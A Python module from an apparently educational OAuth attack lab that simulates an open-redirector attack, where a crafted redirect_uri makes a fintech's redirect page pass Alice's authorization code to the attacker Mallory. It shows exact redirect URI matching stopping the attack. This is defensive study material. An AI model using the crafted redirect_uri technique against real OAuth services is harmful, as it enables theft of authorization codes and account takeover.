"""An open redirector on the fintech's site hands Alice's code on to Mallory.

The fintech has a page that redirects to whatever its query names. Mallory makes an authorization request in the
fintech's name and writes that page into `redirect_uri`. Alice sees her own bank and the fintech's name, and approves.
The bank sends the code to the fintech's page, and that page redirects Alice's browser, code and all, to Mallory.

The bank stops this. It compares `redirect_uri` letter by letter with the registered ones, so a page that merely lies
below a registered one receives nothing.
"""

from __future__ import annotations

from urllib.parse import urlencode

from examples.attack_lab.attack import Attack
from examples.attack_lab.ecosystem import Ecosystem
from examples.attack_lab.lab import Lab
from examples.attack_lab.story import Party, Story

LOOT = "Alice's authorization code"
ALICE, BANK, FINTECH, MALLORY = Party.ALICE, Party.BANK, Party.FINTECH, Party.MALLORY
CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


def undefended(lab: Lab, story: Story) -> str:
    return _lured(lab, story, f"{lab.naive_bank().issuer}/authorize", at=None)


def defended(lab: Lab, story: Story) -> str:
    """The bank under OAuth 2.1, where a request may come in the URL. Under FAPI 2.0 Mallory could not even push it."""
    world = lab.under("oauth-2.1")
    return _lured(lab, story, f"{world.bank.issuer}/authorize", at=world)


def _lured(lab: Lab, story: Story, endpoint: str, *, at: Ecosystem | None) -> str:
    mallory, origin = lab.mallorys_site()
    asked = {
        "client_id": "fintech",
        "response_type": "code",
        "scope": "accounts",
        "redirect_uri": f"{lab.fintech_site}/callback/go?to={origin}/prize",
        "code_challenge": CHALLENGE,
        "code_challenge_method": "S256",
    }
    story.step(MALLORY, ALICE, "a link to Alice's own bank", "It is a request in the name of the fintech.")
    story.step(
        ALICE,
        BANK,
        "GET /authorize, redirect_uri=.../callback/go?to=Mallory",
        "The fintech's page that redirects anywhere lies below the registered redirect URI.",
    )
    lab.alice_opens(f"{endpoint}?{urlencode(asked)}", at)
    story.step(
        BANK, ALICE, "302 to .../callback/go?to=Mallory&code=...", "Alice approved, and a prefix was enough."
    )
    story.step(
        ALICE, FINTECH, "GET .../callback/go?to=Mallory&code=...", "The browser goes where it is sent."
    )
    story.step(FINTECH, ALICE, "302 to Mallory?code=...", "The page hands on all that it was called with.")
    story.step(ALICE, MALLORY, "GET /prize?code=...", "Mallory reads the code out of the query.")
    assert mallory.last("/prize").query["code"]
    return LOOT


ATTACK = Attack(
    id="T4",
    title="open redirector",
    loot=LOOT,
    countermeasures=("C7", "C8"),
    rule="InvalidRequest",
    clause="RFC 9700 2.1a",
    defence="askit.clients.redirect_uris.is_registered",
    without=lambda *_: True,
    undefended=undefended,
    defended=defended,
)
